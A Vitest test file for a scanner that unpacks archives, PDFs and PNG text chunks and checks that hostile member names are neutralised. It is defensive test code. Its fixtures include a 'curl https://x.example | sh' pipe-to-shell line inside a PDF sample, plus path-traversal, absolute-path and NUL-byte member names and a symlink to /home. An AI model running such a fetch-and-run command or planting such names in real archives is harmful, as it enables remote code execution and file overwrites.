import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { FileTask } from '../../../src/static/file-task.ts';
import { MAX_MEMBERS } from '../../../src/static/layers/bounds.ts';
import { expandLayers } from '../../../src/static/layers/expand.ts';
import { memberName } from '../../../src/static/layers/member-name.ts';
import { tarOf, zipOf } from '../../support/archives.ts';
import { pngChunk, pngOf } from '../../support/pictures.ts';

const { signal } = new AbortController();
const FIXTURES = fileURLToPath(new URL('../../../fixtures/layers/', import.meta.url));

function task(path: string, content: Uint8Array): FileTask {
  return { path, content, unit: '.' };
}

function reasonsOf(tasks: readonly FileTask[]): readonly string[] {
  return tasks.flatMap(({ opened }) => (opened?.shortfalls ?? []).map(({ reason }) => reason));
}

describe('names of members', () => {
  it.each([
    ['a/b.py', 'a/b.py', null],
    ['../../a.sh', 'a.sh', 'leads out of the archive'],
    ['/etc/a.sh', 'etc/a.sh', 'is an absolute path'],
    ['C:\\a\\b.py', 'a/b.py', 'is an absolute path'],
    ['a.py\0.png', 'a.py', 'holds a NUL character'],
    ['..', '(no name)', 'leads out of the archive'],
  ])('are made harmless: %j', (raw, name, problem) => {
    expect(memberName(raw)).toEqual({ name, problem });
  });

  it('are bounded', () => {
    expect(memberName('a/'.repeat(10_000)).name.length).toBeLessThanOrEqual(512);
  });
});

describe('expandLayers', () => {
  it('follows a tar’s hard links and notes what is no file', async () => {
    const tar = await tarOf([
      { name: 'a.py', content: 'x = 1\n' },
      { name: 'b.sh', type: 'link', linkname: 'a.py' },
      { name: 'out', type: 'symlink', linkname: '/home' },
      { name: 'out/c.sh', content: 'echo hello\n' },
    ]);
    const tasks = await expandLayers([task('t', tar)], signal);
    expect(tasks.map(({ path }) => path)).toEqual(['t', 't!/a.py', 't!/b.sh', 't!/out', 't!/out/c.sh']);
    expect(Buffer.from(tasks[2]!.content).toString()).toBe('x = 1\n');
    expect(reasonsOf(tasks)).toEqual(['symbolic link to /home: not followed']);
    expect(tasks[0]?.opened?.detections.map(({ name }) => name)).toEqual(['archive-hostile-name']);
  });

  it('stops at a number of things, and says so', async () => {
    const members = Array.from({ length: MAX_MEMBERS + 10 }, (_, index) => ({
      name: `${index}`,
      content: 'x',
    }));
    const tasks = await expandLayers([task('a.zip', zipOf(members))], signal);
    expect(tasks.length).toBeLessThanOrEqual(MAX_MEMBERS + 1);
    expect(reasonsOf(tasks).join()).toContain(`more than ${MAX_MEMBERS} things`);
  });

  it('stops when it is interrupted', async () => {
    const controller = new AbortController();
    controller.abort(new Error('stop'));
    await expect(expandLayers([task('a.gz', gzipSync('x'))], controller.signal)).rejects.toThrow('stop');
  });

  it.each([
    ['an empty ar archive', '!<arch>\n'],
    ['a PDF document without objects', '%PDF-1.4\ncurl https://x.example | sh\n'],
    ['a PDF document with a page', '%PDF-1.4\nid\n1 0 obj <<>> stream\nBT (hello) Tj ET\nendstream %%EOF'],
    [
      'an office part without text',
      '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006"/>',
    ],
  ])('keeps the bytes that no member has: %s', async (_name, bytes) => {
    const [own] = await expandLayers([task('x', Buffer.from(bytes))], signal);
    expect(Buffer.from(own!.content).toString()).toBe(bytes);
  });

  it('takes members of unknown types for files, as readers do', async () => {
    const tar = await tarOf([{ name: 'a.sh', content: 'echo hello\n' }]);
    tar[156] = 'Q'.charCodeAt(0);
    tar.fill(' ', 148, 156);
    const sum = tar.subarray(0, 512).reduce((total, byte) => total + byte, 0);
    tar.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    const tasks = await expandLayers([task('t', tar)], signal);
    expect(tasks.map(({ path, content }) => [path, Buffer.from(content).toString()])).toContainEqual([
      't!/a.sh',
      'echo hello\n',
    ]);
  });

  it('reads hidden text to its end', async () => {
    const text = `${'a word '.repeat(100_000)}the end`;
    const png = pngOf([pngChunk('iTXt', Buffer.from(`Comment\0\0\0\0\0${text}`))]);
    const tasks = await expandLayers([task('p', png)], signal);
    expect(tasks.map(({ content }) => Buffer.from(content).toString()).join()).toContain('the end');
  });

  it('never fails, whatever bytes change, and leaves no container without a word', async () => {
    const seeds = [
      readFileSync(`${FIXTURES}nested-archives/assets.tar.xz`),
      readFileSync(`${FIXTURES}nested-archives/notes.bz2`),
      zipOf(
        [
          { name: 'a.txt', content: 'hello '.repeat(50) },
          { name: 'b', content: 'x' },
        ],
        'a longer comment here',
      ),
      gzipSync('hello '.repeat(50)),
      pngOf([pngChunk('iTXt', Buffer.from('Comment\0\0\0\0\0hello there everybody'))], Buffer.alloc(40, 65)),
      await tarOf([{ name: 'a.py', content: 'x = 1\n' }]),
      Buffer.from('!<arch>\na.txt/          0           0     0     644     4         `\nabcd'),
      Buffer.from('%PDF-1.4\n1 0 obj << /Length 20 >> stream\nBT (hello) Tj ET\nendstream %%EOF'),
    ];
    let random = 7;
    const next = (below: number): number => {
      random = (random * 1_103_515_245 + 12_345) % 2 ** 31;
      return random % below;
    };
    for (let round = 0; round < 400; round++) {
      const bytes = Buffer.from(seeds[round % seeds.length]!);
      for (let change = next(4); change >= 0; change--) bytes[next(bytes.length)] = next(256);
      const content = next(4) === 0 ? bytes.subarray(0, next(bytes.length)) : bytes;
      const tasks = await expandLayers([task('x', content)], signal);
      const own = tasks.find(({ path }) => path === 'x');
      expect(own).toBeDefined();
      // Opened with nothing to show, nothing inside and nothing left would be a silent skip.
      const isTold = own!.content.length > 0 || tasks.length > 1 || reasonsOf([own!]).length > 0;
      if (content.length > 0) expect({ round, isTold }).toEqual({ round, isTold: true });
    }
  }, 60_000);
});
